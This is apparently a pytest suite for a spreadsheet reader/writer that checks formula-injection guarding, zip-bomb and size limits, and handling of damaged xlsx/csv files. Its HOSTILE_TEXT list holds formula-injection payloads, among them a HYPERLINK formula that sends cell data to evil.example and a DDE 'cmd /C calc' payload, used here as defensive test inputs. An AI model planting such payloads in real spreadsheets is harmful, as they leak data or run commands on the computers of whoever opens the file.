"""core.spreadsheets: the one reader and writer of xlsx/csv, its formula guard and limits."""

import io
import re
import time
import zipfile
from datetime import datetime
from decimal import Decimal

import openpyxl
import pytest

from core import spreadsheets
from core.spreadsheets import (
    Sheet,
    SpreadsheetError,
    read_csv,
    read_xlsx,
    write_csv,
    write_xlsx,
)
from tests.spreadsheet_files import (
    damaged_workbook,
    last_cell_only,
    plain_xlsx,
    rewrite,
    sheet_xml,
    whole_sheet_range,
    with_dimension,
    zip_bomb,
)

HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?x="&A2,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "'=1+1",
]


def refused(data: bytes) -> str:
    started = time.perf_counter()
    with pytest.raises(SpreadsheetError) as caught:
        read_xlsx(data)
    assert time.perf_counter() - started < 5, "the check must come before the parse"
    return caught.value.message


# ---------------------------------------------------------------- writing


def test_xlsx_keeps_numbers_numeric_sets_widths_and_writes_several_sheets():
    rows = ((name, score, Decimal("8.50"), 3) for name, score in [("张三", 92), ("李四", 58.5)])
    data = write_xlsx(
        [
            Sheet(
                "成绩", ["姓名", "成绩", "满分", "次数"], rows, widths=[12, 8], caption="年度考试"
            ),
            Sheet("按单位汇总", ["单位", "人数"], [["区司法局", 2]]),
        ]
    )
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["成绩", "按单位汇总"]
    sheet = book["成绩"]
    assert sheet["A1"].value == "年度考试"
    assert [c.value for c in sheet[2]] == ["姓名", "成绩", "满分", "次数"]
    assert sheet["A2"].font.bold
    assert [c.value for c in sheet[3]] == ["张三", 92, 8.5, 3]
    assert sheet["B4"].value == 58.5 and sheet["B4"].data_type == "n"
    assert sheet["C3"].data_type == "n"
    assert sheet.column_dimensions["A"].width == 12
    assert sheet.column_dimensions["B"].width == 8
    assert sheet.freeze_panes == "A3"
    assert book["按单位汇总"]["B2"].value == 2


def test_xlsx_number_formats_apply_to_numbers_and_times_and_leave_text_guarded():
    moment = datetime(2026, 3, 2, 9, 30)
    rows = [["张三", Decimal("8.00"), moment, 0.5], ["=1+1", None, None, None]]
    formats = {1: "0.00", 2: "yyyy-mm-dd hh:mm", 3: "0.0%"}
    data = write_xlsx([Sheet("成绩", ["姓名", "成绩", "交卷", "合格率"], rows, formats=formats)])
    sheet = openpyxl.load_workbook(io.BytesIO(data))["成绩"]
    assert (sheet["B2"].value, sheet["B2"].data_type, sheet["B2"].number_format) == (
        8,
        "n",
        "0.00",
    )
    assert (sheet["C2"].value, sheet["C2"].number_format) == (moment, "yyyy-mm-dd hh:mm")
    assert sheet["D2"].number_format == "0.0%"
    assert (sheet["A3"].value, sheet["A3"].data_type) == ("=1+1", "s")
    assert sheet["B3"].value is None


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_xlsx_writes_formula_like_text_as_text_in_every_cell(text):
    data = write_xlsx([Sheet(text, [text], [[text, 1]], caption=text)])
    assert b"<f>" not in sheet_xml(data)  # no formula anywhere, caption and header included
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    for cell in (sheet["A1"], sheet["A2"], sheet["A3"]):
        assert cell.value == text
        assert cell.data_type == "s"
    if text[0] != "'":
        assert sheet["A3"].quotePrefix  # stays text when someone edits the cell in Excel
    assert read_xlsx(data)[0][2] == (text, 1)


def test_xlsx_rows_may_be_a_generator_and_control_characters_are_dropped():
    data = write_xlsx([Sheet("表", None, ([f"第{i}行\x00\x1f", None, ""] for i in range(3)))])
    assert read_xlsx(data) == [[("第0行",), ("第1行",), ("第2行",)]]


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_csv_guards_every_text_cell_and_reads_back_the_same_text(text):
    data = write_csv([text], [[text, -3, Decimal("8.50"), None]])
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").split("\r\n")
    assert all(line.startswith("'") or line.startswith("\"'") for line in lines[:2])
    assert lines[1].endswith(",-3,8.50,")  # numbers are not text: no guard
    assert read_csv(data) == [[text], [text, "-3", "8.50", ""]]


# ---------------------------------------------------------------- reading


def test_reads_every_sheet_trimming_empty_trailing_cells_and_rows():
    book = openpyxl.Workbook()
    book.active.append(["题型", "题干", None])
    book.active.append([None])
    book.active.append(["单选", 3, None, None])
    book.active.append([None, None])
    book.create_sheet("说明").append(["见第一页"])
    buffer = io.BytesIO()
    book.save(buffer)
    assert read_xlsx(buffer.getvalue()) == [[("题型", "题干"), (), ("单选", 3)], [("见第一页",)]]


def test_zip_bomb_is_refused_before_parsing():
    bomb = zip_bomb()
    assert len(bomb) < 200 * 1024
    assert "压缩炸弹" in refused(bomb)


def test_archive_too_big_when_unpacked_is_refused(monkeypatch):
    data = plain_xlsx(*[[f"第{i}行", "内容" * 20] for i in range(200)])
    monkeypatch.setattr(spreadsheets, "MAX_UNPACKED_BYTES", 10_000)
    message = refused(data)
    assert "解压后" in message and "超过上限" in message


def test_part_that_understates_its_size_is_damaged_not_read_past_its_size():
    data = plain_xlsx(*[[f"第{i}行", "内容" * 20] for i in range(2000)])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    real = info.file_size.to_bytes(4, "little")
    small = (1000).to_bytes(4, "little")
    assert data.count(real) >= 2  # the local header and the central directory
    forged = data.replace(real, small)
    assert refused(forged) == spreadsheets.NOT_XLSX


def test_declared_whole_sheet_range_is_refused_before_reading_it():
    data = whole_sheet_range()
    assert len(data) < 10_000
    message = refused(data)
    assert "A1:XFD1048576" in message and "超过上限" in message


def test_lone_cell_at_the_far_corner_without_a_declared_range_is_read_in_a_moment():
    data = last_cell_only()
    assert len(data) < 10_000
    started = time.perf_counter()
    assert read_xlsx(data) == [[]]  # beyond both limits: not read
    assert time.perf_counter() - started < 2


def test_wrong_small_declared_range_still_reads_every_row():
    data = with_dimension(plain_xlsx(["a", "b"], ["c", "d"], ["e", "f"]), "A1")
    assert read_xlsx(data) == [[("a", "b"), ("c", "d"), ("e", "f")]]


def test_rows_beyond_the_limit_are_refused_even_without_a_declared_range(monkeypatch):
    monkeypatch.setattr(spreadsheets, "MAX_ROWS", 5)
    fits = plain_xlsx(*[[i] for i in range(5)])
    assert len(read_xlsx(with_dimension(fits, "A1"))[0]) == 5
    too_many = with_dimension(plain_xlsx(*[[i] for i in range(6)]), "A1")
    assert "超过 5 行" in refused(too_many)
    with pytest.raises(SpreadsheetError, match="超过 5 行"):
        read_csv("\n".join(str(i) for i in range(6)).encode())


def test_cell_in_the_last_column_without_a_declared_range_is_cut_at_the_column_limit():
    xml = sheet_xml(plain_xlsx(["a"]))
    far = b'<c r="XFD1" t="inlineStr"><is><t>far</t></is></c>'
    rows = b"".join(
        b'<row r="%d">%s</row>' % (n, far.replace(b"XFD1", b"XFD%d" % n)) for n in range(1, 2001)
    )
    xml = re.sub(rb"<dimension[^>]*/>", b"", xml)
    xml = re.sub(
        rb"<sheetData>.*</sheetData>|<sheetData/>", b"<sheetData>" + rows + b"</sheetData>", xml
    )
    data = rewrite(plain_xlsx(["a"]), "xl/worksheets/sheet1.xml", xml)
    started = time.perf_counter()
    rows_read = read_xlsx(data)[0]
    assert time.perf_counter() - started < 5
    assert rows_read == []  # nothing within the first MAX_COLUMNS columns


@pytest.mark.parametrize(
    "data",
    [
        b"PK\x03\x04 truncated",
        b"not a zip at all",
        b"",
        damaged_workbook(),
        rewrite(plain_xlsx(["a"]), "xl/worksheets/sheet1.xml", b"\x00\xff garbage"),
        rewrite(plain_xlsx(["a"]), "[Content_Types].xml", b"<Types/>"),
    ],
    ids=["truncated", "not-zip", "empty", "bad-workbook-xml", "bad-sheet-xml", "no-content-types"],
)
def test_damaged_workbooks_are_refused_in_chinese(data):
    assert refused(data) == spreadsheets.NOT_XLSX


def test_old_xls_is_refused_with_advice():
    assert "另存为 .xlsx" in refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100)


def test_csv_in_gbk_and_with_a_stray_quote():
    assert read_csv("题型,题干\r\n单选,甲".encode("gbk")) == [["题型", "题干"], ["单选", "甲"]]
    with pytest.raises(SpreadsheetError, match="无法识别文件编码"):
        read_csv(b"\xff\xfe\xff\xd8")  # UTF-16 BOM, then half a surrogate
